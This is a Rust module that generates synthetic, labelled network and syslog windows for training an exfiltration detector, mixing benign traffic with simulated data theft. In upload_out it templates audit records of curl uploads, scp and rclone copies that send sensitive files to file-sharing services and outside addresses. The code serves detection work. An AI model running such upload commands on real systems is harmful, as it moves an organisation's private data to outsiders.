//! Network, transfer and mail-server logs that none of the real sources holds: a proxy's
//! access log, Zeek's connection log, Windows Firewall's log, backup jobs in syslog, a VPN
//! server, a mail server and a DNS/DHCP server. Ordinary traffic in them is benign, large
//! downloads and backups to hosts on the LAN included; large uploads to hosts outside are
//! exfiltration. So a byte count alone never makes the label: where the bytes go does.

use opensoc::util::thousands::grouped;

use super::generators::{all, single, syslog, EXFIL};
use super::{calendar, labels, lan_ip, public_ip, random_time, BuildConfig, Rng, Sample};

/// Sites an office's browsers, updaters and meeting clients reach every day.
const SITES: [&str; 14] = [
    "www.google.com",
    "outlook.office365.com",
    "teams.microsoft.com",
    "r4---sn-4g5edns6.googlevideo.com",
    "update.googleapis.com",
    "dl.delivery.mp.microsoft.com",
    "zoom.us",
    "slack.com",
    "github.com",
    "www.linkedin.com",
    "fonts.gstatic.com",
    "login.microsoftonline.com",
    "api.dropboxapi.com",
    "cdn.jsdelivr.net",
];

/// Downloads that are large and ordinary: updates, installers, video.
const BIG_DOWNLOADS: [&str; 6] = [
    "http://download.windowsupdate.com/c/msdownload/update/software/secu/2025/03/windows10.0-kb5035845-x64.cab",
    "http://dl.google.com/release2/chrome/acpvq5bn2sh/134.0.6998.89_chrome_installer.exe",
    "http://archive.ubuntu.com/ubuntu/pool/main/l/linux/linux-modules-6.8.0-55-generic_6.8.0-55.57_amd64.deb",
    "http://officecdn.microsoft.com/pr/492350f6-3a01-4f97-b9c0-c7c6ddf67d60/office/data/16.0.18526.20168/stream.x64.x-none.dat",
    "http://swcdn.apple.com/content/downloads/41/32/072-12345-A_8SW4WJ3HUI/macOSUpdCombo.pkg",
    "http://download.docker.com/linux/debian/dists/bookworm/pool/stable/amd64/docker-ce_28.0.1-1~debian.12~bookworm_amd64.deb",
];

/// Where stolen files go: file-sharing and paste services, personal cloud remotes.
const DROP_SITES: [&str; 7] = [
    "mega.nz",
    "transfer.sh",
    "anonfiles.com",
    "gofile.io",
    "file.io",
    "pastebin.com",
    "temp.sh",
];

/// Files worth stealing, as a collector names them.
const LOOT: [&str; 8] = [
    "customers_2025.csv",
    "payroll_Q1.xlsx",
    "crm_export.sql.gz",
    "finance/ledger_2024.zip",
    "hr/employees.xlsx",
    "contracts.7z",
    "db_backup_full.tar.gz",
    "mailboxes.pst",
];

/// A connection's random source port.
fn ephemeral(rng: &mut Rng) -> u64 {
    rng.range(49_152, 65_535)
}

/// A proxy's access log (squid's native layout) for one workstation: tunnels to ordinary
/// sites, updates and video, now and then a request the policy denies.
fn squid(rng: &mut Rng) -> Vec<String> {
    let client = lan_ip(rng);
    let mut t = random_time(rng);
    (0..rng.range(3, 12))
        .map(|_| {
            t += rng.range(0, 40) as i64;
            let ms = rng.range(0, 999);
            let elapsed = rng.range(20, 180_000);
            let upstream = public_ip(rng);
            let (code, method, url, bytes, mime) = match rng.below(10) {
                0..=5 => (
                    "TCP_TUNNEL/200",
                    "CONNECT",
                    format!("{}:443", rng.pick(&SITES)),
                    rng.range(800, 40_000_000),
                    "-",
                ),
                6 | 7 => (
                    "TCP_MISS/200",
                    "GET",
                    rng.pick(&BIG_DOWNLOADS).to_string(),
                    rng.range(30_000_000, 1_500_000_000),
                    "application/octet-stream",
                ),
                8 => (
                    "TCP_HIT/200",
                    "GET",
                    format!("http://{}/favicon.ico", rng.pick(&SITES)),
                    rng.range(300, 9000),
                    "image/x-icon",
                ),
                _ => (
                    "TCP_DENIED/403",
                    "CONNECT",
                    format!(
                        "{}:443",
                        rng.pick(&["www.bet365.com", "store.steampowered.com", "www.twitch.tv"])
                    ),
                    rng.range(3000, 4200),
                    "text/html",
                ),
            };
            let hier = if code.starts_with("TCP_DENIED") {
                "HIER_NONE/-".to_string()
            } else {
                format!("HIER_DIRECT/{upstream}")
            };
            format!(
                "{t}.{ms:03} {elapsed:>6} {client} {code} {bytes} {method} {url} - {hier} {mime}"
            )
        })
        .collect()
}

/// Zeek's `conn.log` (tab-separated) for one host: ordinary sessions, or (`exfil`) one
/// long session that uploads gigabytes to an address outside.
fn zeek_conn(rng: &mut Rng, exfil: bool) -> Vec<String> {
    let host = lan_ip(rng);
    let mut t = random_time(rng);
    if exfil {
        // Collectors run when nobody watches.
        t = t - t.rem_euclid(86_400) + rng.range(0, 5) as i64 * 3600 + rng.range(0, 3599) as i64;
    }
    let mut lines = Vec::new();
    let n = rng.range(2, 8) as usize;
    let big = if exfil { rng.below(n) } else { usize::MAX };
    for i in 0..n {
        t += rng.range(0, 120) as i64;
        let uid = format!("C{:017x}", rng.range(0, u64::MAX >> 4));
        let port_service = *rng.pick(&[(445u64, "smb"), (22, "ssh"), (873, "-"), (2049, "nfs")]);
        let (resp, port, service, dur, orig, resp_bytes) = if i == big {
            (
                public_ip(rng),
                *rng.pick(&[443u64, 443, 22, 21, 8443]),
                "ssl",
                rng.range(600, 14_000) as f64 + 0.25,
                rng.range(400_000_000, 20_000_000_000),
                rng.range(20_000, 3_000_000),
            )
        } else {
            match rng.below(5) {
                // Ordinary browsing: little up, more down.
                0 | 1 => (
                    public_ip(rng),
                    443,
                    "ssl",
                    rng.range(0, 300) as f64 + 0.5,
                    rng.range(500, 60_000),
                    rng.range(2_000, 80_000_000),
                ),
                // An update or a video: a large download.
                2 => (
                    public_ip(rng),
                    *rng.pick(&[80u64, 443]),
                    "http",
                    rng.range(20, 900) as f64 + 0.1,
                    rng.range(800, 90_000),
                    rng.range(100_000_000, 4_000_000_000),
                ),
                // A name lookup.
                3 => (
                    lan_ip(rng),
                    53,
                    "dns",
                    0.01,
                    rng.range(30, 90),
                    rng.range(60, 400),
                ),
                // A backup or a file copy to a server on the LAN: large, and inside.
                _ => (
                    lan_ip(rng),
                    port_service.0,
                    port_service.1,
                    rng.range(60, 5_000) as f64 + 0.75,
                    rng.range(50_000_000, 30_000_000_000),
                    rng.range(10_000, 5_000_000),
                ),
            }
        };
        let proto = if port == 53 { "udp" } else { "tcp" };
        lines.push(format!(
            "{t}.{:06}\t{uid}\t{host}\t{}\t{resp}\t{port}\t{proto}\t{service}\t{dur:.6}\t{orig}\t{resp_bytes}\tSF\tT\tF\t0\tShADadFf\t{}\t{}\t{}\t{}",
            rng.range(0, 999_999),
            ephemeral(rng),
            rng.range(10, 90_000),
            orig + rng.range(1000, 90_000),
            rng.range(10, 90_000),
            resp_bytes + rng.range(1000, 90_000),
        ));
    }
    lines
}

/// Windows Firewall's `pfirewall.log`: allowed connections out and the broadcast chatter of a
/// LAN that it drops.
fn windows_firewall(rng: &mut Rng) -> Vec<String> {
    let host = lan_ip(rng);
    let mut t = random_time(rng);
    (0..rng.range(3, 12))
        .map(|_| {
            t += rng.range(0, 20) as i64;
            let (y, m, d, hh, mm, ss) = calendar(t);
            let stamp = format!("{y}-{m:02}-{d:02} {hh:02}:{mm:02}:{ss:02}");
            if rng.chance(0.7) {
                let (proto, port) = *rng.pick(&[
                    ("TCP", 443),
                    ("TCP", 443),
                    ("TCP", 80),
                    ("UDP", 53),
                    ("UDP", 123),
                ]);
                format!(
                    "{stamp} ALLOW {proto} {host} {} {} {port} 0 - - - - - - - SEND",
                    public_ip(rng),
                    ephemeral(rng)
                )
            } else {
                let (proto, port) =
                    *rng.pick(&[("UDP", 137), ("UDP", 138), ("UDP", 1900), ("UDP", 5353)]);
                format!(
                    "{stamp} DROP {proto} {} {host} {} {port} {} - - - - - - - RECEIVE",
                    lan_ip(rng),
                    port,
                    rng.range(60, 400)
                )
            }
        })
        .collect()
}

/// A backup job in syslog: rsync or restic to a server on the LAN, gigabytes sent.
fn backup_job(rng: &mut Rng) -> Vec<String> {
    let host = *rng.pick(&["fileserver", "db-1", "web-01", "nas", "erp"]);
    let target = lan_ip(rng);
    let t0 = random_time(rng);
    let t0 = t0 - t0.rem_euclid(86_400) + rng.range(0, 4) as i64 * 3600;
    let pid = rng.range(2000, 60_000);
    let sent = rng.range(500_000_000, 90_000_000_000);
    let secs = rng.range(120, 7200);
    if rng.chance(0.5) {
        vec![
            syslog(
                t0,
                host,
                "CRON",
                pid,
                "(root) CMD (/usr/local/sbin/nightly-backup.sh)",
            ),
            syslog(
                t0 + 1,
                host,
                "rsync",
                pid + 3,
                &format!("building file list ... done, sending to backup@{target}::backups/{host}"),
            ),
            syslog(
                t0 + secs as i64,
                host,
                "rsync",
                pid + 3,
                &format!(
                    "sent {} bytes  received {} bytes  {} bytes/sec",
                    grouped(sent),
                    grouped(rng.range(20_000, 9_000_000)),
                    grouped(sent / secs)
                ),
            ),
            syslog(
                t0 + secs as i64,
                host,
                "rsync",
                pid + 3,
                &format!(
                    "total size is {}  speedup is {}.{:02}",
                    grouped(sent * rng.range(2, 40)),
                    rng.range(1, 60),
                    rng.range(0, 99)
                ),
            ),
        ]
    } else {
        let gib = sent as f64 / 1_073_741_824.0;
        vec![
            syslog(
                t0,
                host,
                "restic",
                pid,
                &format!("using parent snapshot {:08x}, repository sftp:backup@{target}:/srv/restic/{host} opened", rng.range(0, u64::from(u32::MAX))),
            ),
            syslog(
                t0 + secs as i64,
                host,
                "restic",
                pid,
                &format!(
                    "Added to the repository: {gib:.3} GiB ({:.3} GiB stored), processed {} files",
                    gib * 0.7,
                    rng.range(1_000, 900_000)
                ),
            ),
            syslog(
                t0 + secs as i64 + 1,
                host,
                "restic",
                pid,
                &format!("snapshot {:08x} saved", rng.range(0, u64::from(u32::MAX))),
            ),
        ]
    }
}

/// An account's files copied off to a personal cloud remote (rclone), to an address outside
/// (scp) or to a file-sharing service (curl), at night, within minutes: one window.
fn upload_out(rng: &mut Rng) -> Vec<String> {
    let host = *rng.pick(&["fileserver", "ws-finance-02", "db-1", "erp", "laptop-anna"]);
    let user = *rng.pick(&["jsmith", "anna", "svc_backup", "contractor1", "mark"]);
    let t0 = random_time(rng);
    let mut t = t0 - t0.rem_euclid(86_400) + rng.range(0, 5) as i64 * 3600;
    let pid = rng.range(2000, 60_000);
    let mut loot = LOOT;
    rng.shuffle(&mut loot);
    let files = &loot[..rng.range(2, 5) as usize];
    let mut lines = Vec::new();
    match rng.below(3) {
        0 => {
            let remote = *rng.pick(&["mega", "pcloud", "gdrive-personal", "dropbox-home"]);
            for file in files {
                t += rng.range(5, 60) as i64;
                let msg = format!("INFO  : {file}: Copied (new) to {remote}:{user}/");
                lines.push(syslog(t, host, "rclone", pid, &msg));
            }
            let gib = rng.range(2, 60) as f64 + rng.range(0, 99) as f64 / 100.0;
            let msg = format!(
                "INFO  : Transferred: {gib:.2} GiB / {gib:.2} GiB, 100%, {} MiB/s, ETA 0s",
                rng.range(5, 90)
            );
            lines.push(syslog(t + 1, host, "rclone", pid, &msg));
        }
        1 => {
            let dest = public_ip(rng);
            for file in files {
                t += rng.range(5, 60) as i64;
                let msg = format!(
                    "type=EXECVE argc=4 a0=\"scp\" a1=\"-r\" a2=\"/srv/share/{file}\" a3=\"{user}@{dest}:/tmp/\""
                );
                lines.push(syslog(t, host, "audit", rng.range(100, 900), &msg));
            }
        }
        _ => {
            let site = *rng.pick(&DROP_SITES);
            for file in files {
                t += rng.range(5, 60) as i64;
                let name = file.rsplit('/').next().unwrap_or(file);
                let msg = format!(
                    "type=EXECVE argc=4 a0=\"curl\" a1=\"--upload-file\" a2=\"/srv/share/{file}\" a3=\"https://{site}/{name}\""
                );
                lines.push(syslog(t, host, "audit", rng.range(100, 900), &msg));
            }
        }
    }
    lines
}

/// An OpenVPN server's log: staff connecting from home.
fn openvpn(rng: &mut Rng) -> Vec<String> {
    let user = *rng.pick(&["anna", "jsmith", "mark", "li.wei", "ops", "sales2"]);
    let from = format!("{}:{}", public_ip(rng), ephemeral(rng));
    let tunnel = format!("10.8.0.{}", rng.range(2, 250));
    let t0 = random_time(rng);
    let stamp = |s: i64| {
        let (y, m, d, hh, mm, ss) = calendar(t0 + s);
        format!("{y}-{m:02}-{d:02} {hh:02}:{mm:02}:{ss:02}")
    };
    let mut lines = vec![
        format!("{} {from} TLS: Initial packet from [AF_INET]{from}, sid={:08x} {:08x}", stamp(0), rng.range(0, u64::from(u32::MAX)), rng.range(0, u64::from(u32::MAX))),
        format!("{} {from} VERIFY OK: depth=0, CN={user}", stamp(1)),
        format!("{} {from} [{user}] Peer Connection Initiated with [AF_INET]{from}", stamp(1)),
        format!("{} {user}/{from} MULTI_sva: pool returned IPv4={tunnel}, IPv6=(Not enabled)", stamp(1)),
        format!("{} {user}/{from} SENT CONTROL [{user}]: 'PUSH_REPLY,route 192.168.10.0 255.255.255.0,dhcp-option DNS 192.168.10.1,ifconfig {tunnel} 255.255.255.0' (status=1)", stamp(2)),
    ];
    if rng.chance(0.5) {
        let later = rng.range(600, 20_000) as i64;
        lines.push(format!(
            "{} {user}/{from} SIGTERM[soft,remote-exit] received, client-instance exiting",
            stamp(later)
        ));
    }
    lines
}

/// A mail server's log (Postfix): mail in and out, large attachments included.
fn postfix(rng: &mut Rng) -> Vec<String> {
    let host = *rng.pick(&["mail", "mx1", "smtp-relay"]);
    let mut t = random_time(rng);
    let mut lines = Vec::new();
    for _ in 0..rng.range(1, 3) {
        let id = format!("{:010X}", rng.range(0, 0xff_ffff_ffff));
        let pid = rng.range(1000, 60_000);
        let peer = public_ip(rng);
        let name = *rng.pick(&[
            "mail-wr1-f41.google.com",
            "mail-eopbgr80049.outbound.protection.outlook.com",
            "mta-12.newsletter.example.net",
            "smtp.supplier-gmbh.de",
        ]);
        let size = if rng.chance(0.2) {
            rng.range(5_000_000, 35_000_000)
        } else {
            rng.range(2_000, 200_000)
        };
        lines.push(syslog(
            t,
            host,
            "postfix/smtpd",
            pid,
            &format!("connect from {name}[{peer}]"),
        ));
        lines.push(syslog(
            t,
            host,
            "postfix/smtpd",
            pid,
            &format!("{id}: client={name}[{peer}]"),
        ));
        lines.push(syslog(
            t + 1,
            host,
            "postfix/cleanup",
            pid + 7,
            &format!(
                "{id}: message-id=<{:x}@{name}>",
                rng.range(0, u64::MAX >> 4)
            ),
        ));
        lines.push(syslog(
            t + 1,
            host,
            "postfix/qmgr",
            811,
            &format!(
                "{id}: from=<{}@{}>, size={size}, nrcpt=1 (queue active)",
                rng.pick(&["invoices", "noreply", "j.meyer", "news"]),
                name.split('.')
                    .rev()
                    .take(2)
                    .collect::<Vec<_>>()
                    .into_iter()
                    .rev()
                    .collect::<Vec<_>>()
                    .join(".")
            ),
        ));
        lines.push(syslog(t + 2, host, "postfix/lmtp", pid + 9, &format!("{id}: to=<{}@example.com>, relay=mail.example.com[private/dovecot-lmtp], delay=0.{}, status=sent (250 2.0.0 Ok: queued)", rng.pick(&["anna", "sales", "info", "jsmith"]), rng.range(10, 99))));
        lines.push(syslog(t + 2, host, "postfix/smtpd", pid, &format!("disconnect from {name}[{peer}] ehlo=2 starttls=1 mail=1 rcpt=1 data=1 quit=1 commands=7")));
        t += rng.range(5, 300) as i64;
    }
    lines
}

/// A DNS and DHCP server's log (dnsmasq): leases and lookups on an office LAN.
fn dnsmasq(rng: &mut Rng) -> Vec<String> {
    let client = lan_ip(rng);
    let mac = (0..6)
        .map(|_| format!("{:02x}", rng.range(0, 255)))
        .collect::<Vec<_>>()
        .join(":");
    let name = *rng.pick(&[
        "laptop-anna",
        "ws-finance-02",
        "printer-2f",
        "iphone-mark",
        "meeting-room-tv",
    ]);
    let mut t = random_time(rng);
    let pid = rng.range(300, 2000);
    let mut lines = vec![
        syslog(
            t,
            "gw",
            "dnsmasq-dhcp",
            pid,
            &format!("DHCPREQUEST(br0) {client} {mac}"),
        ),
        syslog(
            t,
            "gw",
            "dnsmasq-dhcp",
            pid,
            &format!("DHCPACK(br0) {client} {mac} {name}"),
        ),
    ];
    for _ in 0..rng.range(1, 6) {
        t += rng.range(0, 30) as i64;
        let site = *rng.pick(&SITES);
        lines.push(syslog(
            t,
            "gw",
            "dnsmasq",
            pid,
            &format!("query[A] {site} from {client}"),
        ));
        lines.push(syslog(
            t,
            "gw",
            "dnsmasq",
            pid,
            &format!("forwarded {site} to 1.1.1.1"),
        ));
        lines.push(syslog(
            t,
            "gw",
            "dnsmasq",
            pid,
            &format!("reply {site} is {}", public_ip(rng)),
        ));
    }
    lines
}

/// nginx's error log on a busy day: timeouts, clients that left, buffered responses.
fn nginx_errors(rng: &mut Rng) -> Vec<String> {
    let mut t = random_time(rng);
    let pid = rng.range(800, 40_000);
    (0..rng.range(1, 5))
        .map(|_| {
            t += rng.range(1, 600) as i64;
            let (y, m, d, hh, mm, ss) = calendar(t);
            let client = public_ip(rng);
            let conn = rng.range(1, 900_000);
            let (level, msg) = *rng.pick(&[
                ("warn", "an upstream response is buffered to a temporary file /var/cache/nginx/proxy_temp/4/01/0000000014 while reading upstream"),
                ("info", "client closed connection while waiting for request, client: CLIENT, server: 0.0.0.0:443"),
                ("error", "upstream timed out (110: Connection timed out) while reading response header from upstream"),
                ("warn", "a client request body is buffered to a temporary file /var/cache/nginx/client_temp/0000000021"),
                ("info", "SSL_do_handshake() failed (SSL: error:0A00006C:SSL routines::bad key share) while SSL handshaking"),
            ]);
            let msg = msg.replace("CLIENT", &client);
            format!(
                "{y}/{m:02}/{d:02} {hh:02}:{mm:02}:{ss:02} [{level}] {pid}#{pid}: *{conn} {msg}, client: {client}, server: shop.example.com"
            )
        })
        .collect()
}

/// What each kind makes: (log name for the windower, lines, label).
fn make(rng: &mut Rng, kind: usize) -> (&'static str, Vec<String>, &'static str) {
    match kind {
        0 => ("access.log", squid(rng), labels::BENIGN),
        1 => ("conn.log", zeek_conn(rng, false), labels::BENIGN),
        2 => ("pfirewall.log", windows_firewall(rng), labels::BENIGN),
        3 => ("syslog", backup_job(rng), labels::BENIGN),
        4 => ("openvpn.log", openvpn(rng), labels::BENIGN),
        5 => ("mail.log", postfix(rng), labels::BENIGN),
        6 => ("syslog", dnsmasq(rng), labels::BENIGN),
        7 => ("error.log", nginx_errors(rng), labels::BENIGN),
        8 => ("conn.log", zeek_conn(rng, true), EXFIL),
        _ => ("syslog", upload_out(rng), EXFIL),
    }
}

/// Logs of each kind: eight benign kinds, then two exfiltration kinds.
const COUNTS: [usize; 10] = [40, 40, 30, 40, 25, 25, 25, 25, 40, 40];

/// The generated training windows: every window of each benign log, each upload's one window.
pub fn generate(cfg: &BuildConfig) -> Vec<Sample> {
    let mut rng = Rng::fork(cfg.seed, "network-logs");
    let mut out = Vec::new();
    for (kind, base) in COUNTS.into_iter().enumerate() {
        for _ in 0..cfg.count(base) {
            let (group, lines, label) = make(&mut rng, kind);
            if label == EXFIL {
                // A window the windower cut off the upload would be mislabelled: keep only
                // logs that stay one window.
                out.extend(single(group, &lines).map(|input| Sample::new(input, label, "exfil")));
            } else {
                out.extend(all(group, &lines, label, "network-benign"));
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn exfiltration_windows_send_out_and_benign_ones_send_inside() {
        let cfg = BuildConfig {
            data_dir: std::path::PathBuf::new(),
            seed: 7,
            scale: 0.5,
            structured_only: true,
            recipe: crate::corpus::Recipe::Step5,
        };
        let samples = generate(&cfg);
        // Each form of upload stays one window, so none is dropped whole.
        for mark in ["\tssl\t", "Transferred:", "a0=\"scp\"", "a0=\"curl\""] {
            assert!(
                samples
                    .iter()
                    .any(|s| s.label == EXFIL && s.input.contains(mark)),
                "no exfiltration window holds {mark:?}"
            );
        }
        assert!(samples.iter().any(|s| s.label == labels::BENIGN));
        for s in samples.iter().filter(|s| s.label == EXFIL) {
            // Every exfiltration window names an upload: a large conn.log session, an rclone
            // transfer or scp to somewhere outside.
            assert!(
                s.input.contains("\tssl\t")
                    || s.input.contains("Transferred:")
                    || s.input.contains("a0=\"scp\"")
                    || s.input.contains("a0=\"curl\""),
                "{}",
                s.input
            );
        }
        for s in samples.iter().filter(|s| s.label == labels::BENIGN) {
            assert!(
                !s.input.contains("rclone") && !s.input.contains("scp"),
                "{}",
                s.input
            );
        }
    }
}
